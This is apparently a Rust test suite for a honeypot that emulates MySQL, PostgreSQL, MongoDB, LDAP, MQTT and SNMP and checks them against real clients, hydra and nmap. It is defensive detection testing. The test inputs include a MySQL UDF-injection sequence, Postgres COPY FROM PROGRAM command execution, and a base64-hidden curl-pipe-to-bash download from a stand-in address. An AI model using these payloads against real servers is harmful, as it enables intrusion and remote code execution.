//! mysql, postgres, mongodb, ldap, mqtt and snmp with the clients of their makers, hydra and nmap.

use std::time::Duration;

use aegis_sensor::{persona::Os, session::EventType, testing};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common::{decoy, have, nmap, run, run_with};

fn port(decoy: &testing::Decoy) -> String {
    decoy.address().port().to_string()
}

async fn mysql(decoy: &testing::Decoy, user: &str, password: &str, sql: &str) -> String {
    let login = [format!("-u{user}"), format!("-p{password}")];
    let args = ["-h127.0.0.1", "-P", &port(decoy), &login[0], &login[1], "--table", "--force"];
    run_with("mysql", &args, sql.as_bytes()).await.text
}

#[tokio::test]
async fn mysql_lets_its_own_in() {
    if !have(&["mysql"]) {
        return;
    }
    let decoy = decoy("mysql", Os::Debian12, &[("credentials", "root:123456")]);
    let refused = mysql(&decoy, "root", "letmein", "SELECT 1").await;
    assert!(refused.contains("Access denied for user 'root'@'127.0.0.1' (using password: YES)"), "{refused}");
    let said = mysql(
        &decoy,
        "root",
        "123456",
        "SELECT @@version, @@version_comment, CURRENT_USER();\nSHOW DATABASES;\nSHOW VARIABLES LIKE 'secure%';\n\
         CREATE DATABASE x; USE x; CREATE TABLE t(id INT AUTO_INCREMENT PRIMARY KEY, a VARCHAR(20) NOT NULL);\n\
         INSERT INTO t(a) VALUES ('one'),('two'); SELECT COUNT(*) n, MAX(a) FROM t WHERE id > 1; DESCRIBE t;\n\
         SHOW TABLES; SELECT table_name FROM information_schema.tables WHERE table_schema='x';\n\
         SELEC 1; SELECT * FROM nope; INSERT INTO t VALUES (1,'again');\n\
         SELECT 0x7f454c46020101004141414141414141 INTO DUMPFILE '/usr/lib/mysql/plugin/u.so';\n\
         CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'u.so';\nDROP DATABASE x;\n",
    )
    .await;
    for wanted in [
        "10.11.6-MariaDB-0+deb12u1",
        "| Debian 12",
        "| root@%",
        "information_schema",
        "secure_file_priv",
        "| 1 | two",
        "| id    | int(11)     | NO   | PRI  | NULL    | auto_increment |",
        "| Tables_in_x |",
        "| table_name |",
        "ERROR 1064 (42000) at line 7: You have an error in your SQL syntax; check the manual that corresponds to your MariaDB \
         server version for the right syntax to use near 'SELEC 1' at line 1",
        "Table 'x.nope' doesn't exist",
        "Duplicate entry '1' for key 'PRIMARY'",
        "Can't create/write to file",
        "Can't open shared library 'u.so'",
    ] {
        assert!(said.contains(wanted), "{wanted} is not in\n{said}");
    }
    let failed = &decoy.told(EventType::AuthFail, 1).await[0];
    assert_eq!((failed.fields["username"].as_str(), failed.fields["password"].as_str()), ("root", "letmein"));
    assert_eq!(decoy.told(EventType::AuthSuccess, 1).await[0].fields["password"], "123456");
    let queries = decoy.told(EventType::Query, 12).await;
    assert!(
        queries
            .iter()
            .any(|told| told.fields["query"].starts_with("CREATE FUNCTION") && told.fields["database"] == "x")
    );
    assert!(decoy.captured().await[0].1.starts_with(b"\x7fELF"));
}

#[tokio::test]
async fn mysql_8_shows_the_password() {
    if !have(&["mysql", "hydra", "nmap"]) {
        return;
    }
    let decoy = decoy("mysql", Os::Ubuntu2204, &[("credentials", "root:s3cret")]);
    let said = mysql(&decoy, "root", "s3cret", "SELECT VERSION(); SHOW GLOBAL VARIABLES LIKE 'server_uuid'").await;
    assert!(said.contains("8.0.35-0ubuntu0.22.04.1") && said.contains("server_uuid"), "{said}");
    // Not one of the common ones: it is seen all the same.
    let said = mysql(&decoy, "root", "Xy-unheard-of-7", "SELECT 1").await;
    assert!(said.contains("Access denied"), "{said}");
    let failed = &decoy.told(EventType::AuthFail, 1).await[0];
    assert_eq!(failed.fields["password"], "Xy-unheard-of-7");
    let scanned = nmap(&decoy).await;
    assert!(scanned.contains("MySQL 8.0.35-0ubuntu0.22.04.1"), "{scanned}");
}

#[tokio::test]
async fn hydra_finds_the_password_of_mysql() {
    if !have(&["hydra"]) {
        return;
    }
    let decoy = decoy("mysql", Os::Debian11, &[("credentials", "root:qwerty")]);
    let folder = tempfile::tempdir().unwrap();
    let list = folder.path().join("passwords");
    std::fs::write(&list, "admin\nletmein\nqwerty\n").unwrap();
    let found = run(
        "hydra",
        &["-I", "-l", "root", "-P", &list.to_string_lossy(), "-t", "2", "-s", &port(&decoy), "127.0.0.1", "mysql"],
    )
    .await
    .text;
    assert!(found.contains("login: root   password: qwerty"), "{found}");
    assert!(!decoy.told(EventType::AuthFail, 1).await.is_empty());
}

async fn psql(decoy: &testing::Decoy, url: &str, sql: &str) -> String {
    let url = format!("postgres://{url}").replace("HOST", &decoy.address().to_string());
    run_with("psql", &["-X", "-v", "VERBOSITY=default", &url], sql.as_bytes()).await.text
}

#[tokio::test]
async fn psql_works_with_tables() {
    if !have(&["psql"]) {
        return;
    }
    let decoy = decoy("postgres", Os::Debian12, &[("credentials", "postgres:postgres")]);
    let refused = psql(&decoy, "postgres:qwerty@HOST/postgres", "SELECT 1").await;
    assert!(refused.contains("FATAL:  password authentication failed for user \"postgres\""), "{refused}");
    let said = psql(&decoy, "postgres:wrong-one@HOST/nodb", "SELECT 1").await;
    assert!(said.contains("password authentication failed"), "{said}");
    let said = psql(&decoy, "postgres:postgres@HOST/nodb", "SELECT 1").await;
    assert!(said.contains("FATAL:  database \"nodb\" does not exist"), "{said}");
    let said = psql(
        &decoy,
        "postgres:postgres@HOST/postgres",
        "SELECT version();\nSHOW server_version;\nCREATE TABLE t(id serial PRIMARY KEY, a text NOT NULL);\n\
         INSERT INTO t(a) VALUES ('one'),('two') RETURNING id;\nSELECT count(*), max(a) FROM t WHERE id > 1;\n\
         INSERT INTO t VALUES (1, 'x');\nSELEC 1;\nSELECT * FROM nope;\nSELECT nope();\nSELECT 1/0;\n\\dt\n\\d t\n\\l\n\\du\n\
         BEGIN; DELETE FROM t; ROLLBACK; SELECT 'left', count(*) FROM t;\nDROP TABLE IF EXISTS c; CREATE TABLE c(o text);\n\
         COPY c FROM PROGRAM 'id';\nSELECT * FROM c;\n\
         COPY c FROM PROGRAM 'echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3guc2ggfCBiYXNo|base64 -d|bash';\n\
         COPY t TO STDOUT;\nCOPY t(a) FROM STDIN;\nthree\n\\.\nSELECT a FROM t ORDER BY id DESC LIMIT 1;\n",
    )
    .await;
    for wanted in [
        "PostgreSQL 15.18 (Debian 15.18-0+deb12u1) on x86_64-pc-linux-gnu",
        "CREATE TABLE",
        "INSERT 0 2",
        "     1 | two",
        "ERROR:  duplicate key value violates unique constraint \"t_pkey\"\nDETAIL:  Key (id)=(1) already exists.",
        "ERROR:  syntax error at or near \"SELEC\"\nLINE 1: SELEC 1;\n        ^",
        "ERROR:  relation \"nope\" does not exist",
        "ERROR:  function nope() does not exist",
        "ERROR:  division by zero",
        " public | t    | table | postgres",
        " id     | integer |           | not null | nextval('t_id_seq'::regclass)",
        "\"t_pkey\" PRIMARY KEY, btree (id)",
        "template0 | postgres | UTF8     | en_US.UTF-8 | en_US.UTF-8",
        "Superuser, Create role, Create DB, Replication, Bypass RLS",
        " left     |     2",
        "COPY 1",
        "(postgres) gid=",
        "COPY 0",
        "1\tone\n2\ttwo",
        " three",
    ] {
        assert!(said.contains(wanted), "{wanted} is not in\n{said}");
    }
    let failed = decoy.told(EventType::AuthFail, 2).await;
    assert_eq!(
        (failed[0].fields["password"].as_str(), failed[0].fields["method"].as_str()),
        ("qwerty", "scram-sha-256")
    );
    assert!(failed.iter().any(|told| !told.fields.contains_key("password")), "{failed:?}");
    let commands = decoy.told(EventType::Command, 2).await;
    assert_eq!(commands[0].fields["command"], "id");
    assert_eq!(decoy.told(EventType::DownloadAttempt, 1).await[0].fields["url"], "http://192.0.2.7/x.sh");
    assert_eq!(decoy.told(EventType::TlsClientHello, 1).await[0].fields["ja3"].len(), 32);
}

#[tokio::test]
async fn nmap_knows_postgres() {
    if !have(&["nmap", "psql"]) {
        return;
    }
    let decoy = decoy("postgres", Os::Debian11, &[("credentials", "postgres:qwerty")]);
    let scanned = nmap(&decoy).await;
    assert!(scanned.contains("PostgreSQL DB 13.5 - 13.8"), "{scanned}");
    let said = psql(&decoy, "postgres:qwerty@HOST/template1", "SHOW password_encryption").await;
    assert!(said.contains(" md5"), "{said}");
    let login = &decoy.told(EventType::AuthSuccess, 1).await[0];
    assert_eq!((login.fields["password"].as_str(), login.fields["method"].as_str()), ("qwerty", "md5"));
}

const PYMONGO: &str = r#"
import sys, pymongo
host = sys.argv[1]
c = pymongo.MongoClient(f"mongodb://{host}/", serverSelectionTimeoutMS=5000, directConnection=True)
print("version", c.server_info()["version"])
names = c.list_database_names(); print(names)
app = [n for n in names if n not in ("admin", "config", "local")][0]
print(sorted(c[app].list_collection_names()))
print("users", c[app].users.count_documents({}), c[app].users.find_one({"role": "admin"})["email"])
c.x.t.insert_many([{"a": n} for n in range(5)])
print("some", [d["a"] for d in c.x.t.find({"a": {"$gt": 2}}).sort("a", -1)])
print("changed", c.x.t.update_many({"a": 1}, {"$set": {"b": 2}}).modified_count, c.x.t.delete_many({"a": 0}).deleted_count)
c.drop_database("x")
print("gone", "x" not in c.list_database_names())
for password in ("wrong", "example"):
    for mechanism in ("SCRAM-SHA-256", "SCRAM-SHA-1"):
        try:
            pymongo.MongoClient(f"mongodb://root:{password}@{host}/?authMechanism={mechanism}", directConnection=True).admin.command("ping")
            print(mechanism, "in")
        except pymongo.errors.OperationFailure as e:
            print(mechanism, e.code, e.details["errmsg"])
"#;

#[tokio::test]
async fn pymongo_works_with_documents() {
    if !have(&["python3"]) || !run("python3", &["-c", "import pymongo"]).await.success {
        eprintln!("skipped: pymongo is not installed");
        return;
    }
    let decoy = decoy("mongodb", Os::Ubuntu2204, &[("auth", "list"), ("credentials", "root:example")]);
    let closed = run("python3", &["-c", PYMONGO, &decoy.address().to_string()]).await.text;
    assert!(closed.contains("requires authentication"), "{closed}");
    let decoy = crate::common::decoy("mongodb", Os::Ubuntu2204, &[]);
    let said = run("python3", &["-c", PYMONGO, &decoy.address().to_string()]).await.text;
    for wanted in [
        "version 6.0.13",
        "['orders', 'sessions', 'users']",
        "some [4, 3]",
        "changed 1 1",
        "gone True",
        "SCRAM-SHA-256 18 Authentication failed.",
        "SCRAM-SHA-1 18 Authentication failed.",
    ] {
        assert!(said.contains(wanted), "{wanted} is not in\n{said}");
    }
    assert!(decoy.told(EventType::AuthFail, 2).await.iter().all(|told| told.fields["username"] == "root"));
    let queries = decoy.told(EventType::Query, 5).await;
    assert!(queries.iter().any(|told| told.fields["query"].contains("\"find\":\"users\"")), "{queries:?}");
}

/// What nmap asks for on the port of MongoDB; it takes the version from the answer.
#[tokio::test]
async fn nmaps_question_to_mongodb() {
    let decoy = decoy("mongodb", Os::Debian11, &[]);
    let mut stream = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
    let probe =
        b"\x41\0\0\0\x3a\x30\0\0\xff\xff\xff\xff\xd4\x07\0\0\0\0\0\0test.$cmd\0\0\0\0\0\xff\xff\xff\xff\x1b\0\0\0\
        \x01serverStatus\0\0\0\0\0\0\0\xf0\x3f\0";
    stream.write_all(probe).await.unwrap();
    let mut answer = vec![0; 8_192];
    let size = stream.read(&mut answer).await.unwrap();
    let answer = String::from_utf8_lossy(&answer[..size]).into_owned();
    assert!(answer.contains("version\0\u{7}\0\0\x005.0.24\0"), "{answer:?}");
    let browsed = tokio::net::TcpStream::connect(decoy.address()).await.unwrap();
    let (mut reader, mut writer) = browsed.into_split();
    writer.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
    let mut said = String::new();
    let _ = reader.read_to_string(&mut said).await;
    assert!(
        said.contains("Content-Length: 85\r\n\r\nIt looks like you are trying to access MongoDB over HTTP"),
        "{said}"
    );
}

#[tokio::test]
async fn ldapsearch_reads_the_directory() {
    if !have(&["ldapsearch"]) {
        return;
    }
    let decoy = decoy("ldap", Os::Debian12, &[("credentials", "admin:secret")]);
    let url = format!("ldap://{}", decoy.address());
    let root = run("ldapsearch", &["-x", "-LLL", "-H", &url, "-s", "base", "-b", "", "+"]).await.text;
    assert!(root.contains("supportedLDAPVersion: 3"), "{root}");
    let suffix = root.lines().find_map(|line| line.strip_prefix("namingContexts: ")).unwrap().to_owned();
    let people =
        run("ldapsearch", &["-x", "-LLL", "-H", &url, "-b", &suffix, "(&(objectClass=inetOrgPerson)(uid=*))", "mail"])
            .await
            .text;
    assert!(people.matches("mail: ").count() > 8, "{people}");
    let missing = run("ldapsearch", &["-x", "-H", &url, "-b", "dc=nope"]).await.text;
    assert!(missing.contains("result: 32 No such object"), "{missing}");
    let admin = format!("cn=admin,{suffix}");
    let wrong = run("ldapwhoami", &["-x", "-H", &url, "-D", &admin, "-w", "letmein"]).await.text;
    assert!(wrong.contains("Invalid credentials (49)"), "{wrong}");
    let right = run("ldapwhoami", &["-x", "-H", &url, "-D", &admin, "-w", "secret"]).await.text;
    assert!(right.contains(&format!("dn:{admin}")), "{right}");
    let entry = format!("dn: uid=eve,ou=People,{suffix}\nobjectClass: inetOrgPerson\nuid: eve\ncn: Eve\nsn: E\n");
    let anonymous = run_with("ldapadd", &["-x", "-H", &url], entry.as_bytes()).await.text;
    assert!(anonymous.contains("modifications require authentication"), "{anonymous}");
    let added = run_with("ldapadd", &["-x", "-H", &url, "-D", &admin, "-w", "secret"], entry.as_bytes()).await;
    assert!(added.success, "{}", added.text);
    let found = run("ldapsearch", &["-x", "-LLL", "-H", &url, "-b", &suffix, "(uid=ev*)", "sn"]).await.text;
    assert!(found.contains("sn: E"), "{found}");
    assert_eq!(decoy.told(EventType::AuthFail, 1).await[0].fields["password"], "letmein");
    let queries = decoy.told(EventType::Query, 3).await;
    assert!(queries.iter().any(|told| told.fields["query"].contains("filter=(&(objectClass=inetOrgPerson)(uid=*))")));
}

#[tokio::test]
async fn windows_is_an_active_directory() {
    if !have(&["ldapsearch", "nmap"]) {
        return;
    }
    let decoy = decoy("ldap", Os::WindowsServer2019, &[("credentials", "Administrator:P@ssw0rd")]);
    let url = format!("ldap://{}", decoy.address());
    let root = run("ldapsearch", &["-x", "-LLL", "-H", &url, "-s", "base", "-b", ""]).await.text;
    let base = root.lines().find_map(|line| line.strip_prefix("defaultNamingContext: ")).unwrap().to_owned();
    let closed = run("ldapsearch", &["-x", "-H", &url, "-b", &base]).await.text;
    assert!(closed.contains("a successful bind must be"), "{closed}");
    let users = run(
        "ldapsearch",
        &[
            "-x",
            "-LLL",
            "-o",
            "ldif-wrap=no",
            "-H",
            &url,
            "-D",
            "Administrator@x",
            "-w",
            "P@ssw0rd",
            "-b",
            &base,
            "(&(objectCategory=person)(userAccountControl:1.2.840.113556.1.4.803:=65536))",
            "sAMAccountName",
        ],
    )
    .await
    .text;
    assert!(users.contains("sAMAccountName: svc_sql") && !users.contains("krbtgt"), "{users}");
    let scanned = nmap(&decoy).await;
    assert!(scanned.contains("Microsoft Windows Active Directory LDAP (Domain: "), "{scanned}");
}

#[tokio::test]
async fn mosquitto_clients_meet() {
    if !have(&["mosquitto_pub", "mosquitto_sub"]) {
        return;
    }
    let decoy = decoy("mqtt", Os::Debian12, &[("credentials", "admin:admin")]);
    let port = port(&decoy);
    let base = ["-h", "127.0.0.1", "-p", &port];
    let refused = run("mosquitto_pub", &[&base[..], &["-u", "admin", "-P", "x", "-t", "a", "-m", "b"]].concat()).await;
    assert!(!refused.success && refused.text.contains("not authorised"), "{}", refused.text);
    let login = ["-u", "admin", "-P", "admin"];
    for version in ["mqttv311", "mqttv5", "mqttv31"] {
        let args = [
            &base[..],
            &login,
            &["-V", version, "-i", "listener", "-q", "1", "-t", "cmd/#", "-C", "1", "-W", "20", "-v"],
        ]
        .concat();
        let listens = run("mosquitto_sub", &args);
        let speaks = async {
            tokio::time::sleep(Duration::from_millis(700)).await;
            run(
                "mosquitto_pub",
                &[&base[..], &login, &["-V", version, "-i", "speaker", "-q", "2", "-t", "cmd/run", "-m", "reboot"]]
                    .concat(),
            )
            .await
        };
        let (heard, said) = tokio::join!(listens, speaks);
        assert!(said.success && heard.text.contains("cmd/run reboot"), "{version}: {} {}", heard.text, said.text);
    }
    let own =
        run("mosquitto_sub", &[&base[..], &login, &["-t", "$SYS/broker/version", "-C", "1", "-W", "10"]].concat())
            .await
            .text;
    assert_eq!(own.trim(), "mosquitto version 2.0.11");
    let devices = run("mosquitto_sub", &[&base[..], &login, &["-t", "#", "-v", "-W", "2"]].concat()).await.text;
    assert!(devices.contains("zigbee2mqtt/bridge/state online"), "{devices}");
    let published = decoy.told(EventType::Publish, 3).await;
    assert_eq!((published[0].fields["payload"].as_str(), published[0].fields["qos"].as_str()), ("reboot", "2"));
    assert_eq!(decoy.told(EventType::Subscribe, 1).await[0].fields["topic"], "cmd/#");
    assert_eq!(decoy.told(EventType::AuthFail, 1).await[0].fields["password"], "x");
}

#[tokio::test]
async fn snmp_tools_read_the_tree() {
    if !have(&["snmpget", "snmpwalk", "snmpbulkwalk"]) {
        return;
    }
    let decoy = decoy("snmp", Os::Debian12, &[]);
    let agent = decoy.address().to_string();
    for version in ["1", "2c"] {
        let got = run("snmpget", &["-v", version, "-c", "public", "-On", &agent, "1.3.6.1.2.1.1.1.0"]).await.text;
        assert!(got.contains("Linux srv-07 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1"), "{got}");
        let walked = run("snmpwalk", &["-v", version, "-c", "public", "-On", &agent, "1.3.6.1.2.1"]).await.text;
        assert!(walked.lines().count() > 40 && walked.contains("snmpd"), "{walked}");
    }
    let bulk = run("snmpbulkwalk", &["-v", "2c", "-c", "public", "-On", &agent, "1.3.6.1.2.1.2"]).await.text;
    assert!(bulk.contains("ens18") && bulk.contains("1000000000"), "{bulk}");
    let missing = run("snmpget", &["-v", "2c", "-c", "public", "-On", &agent, "1.3.6.1.2.1.1.99.0"]).await.text;
    assert!(missing.contains("No Such Object"), "{missing}");
    let wrong =
        run("snmpget", &["-v", "2c", "-c", "cisco", "-t", "1", "-r", "0", &agent, "1.3.6.1.2.1.1.1.0"]).await.text;
    assert!(wrong.contains("Timeout"), "{wrong}");
    let third = run(
        "snmpget",
        &["-v", "3", "-u", "admin", "-l", "noAuthNoPriv", "-t", "1", "-r", "0", &agent, "1.3.6.1.2.1.1.1.0"],
    )
    .await
    .text;
    assert!(third.contains("Unknown user name"), "{third}");
    // psql tries again without TLS.
    let failed = decoy.told(EventType::AuthFail, 4).await;
    assert_eq!((failed[0].fields["password"].as_str(), failed[0].fields["method"].as_str()), ("cisco", "community"));
    assert_eq!(decoy.told(EventType::Scan, 1).await[0].fields["kind"], "snmpv3_discovery");
}

/// Bytes that are no protocol end a connection and nothing else.
#[tokio::test]
async fn any_bytes_are_survived() {
    for service in ["mysql", "postgres", "mongodb", "ldap", "mqtt"] {
        let decoy = decoy(service, Os::Ubuntu2204, &[]);
        let mut state = 7_u64;
        for round in 0..60 {
            let Ok(mut stream) = tokio::net::TcpStream::connect(decoy.address()).await else { continue };
            let bytes: Vec<u8> = (0..1 + round * 40)
                .map(|_| {
                    state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
                    state.to_be_bytes()[0]
                })
                .collect();
            let lead: &[u8] = match (service, round % 3) {
                ("mysql", 0) => &[0x40, 0, 0, 1],
                ("postgres", 0) => &[0, 0, 0, 40, 0, 3, 0, 0],
                ("mongodb", 0) => &[40, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0xdd, 7, 0, 0, 0, 0, 0, 0, 0],
                ("ldap", 0) => &[0x30, 0x1c, 2, 1, 1, 0x63, 0x17, 4, 0, 10, 1, 2, 10, 1, 0],
                ("mqtt", 0) => &[0x10, 0x20, 0, 4, b'M', b'Q', b'T', b'T', 5, 0xff],
                (_, 1) => &[0xff; 8],
                _ => &[],
            };
            let _ = stream.write_all(&[lead, &bytes].concat()).await;
            let _ = stream.shutdown().await;
            let mut answer = Vec::new();
            let _ = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut answer)).await;
        }
        assert!(tokio::net::TcpStream::connect(decoy.address()).await.is_ok(), "{service}");
    }
}
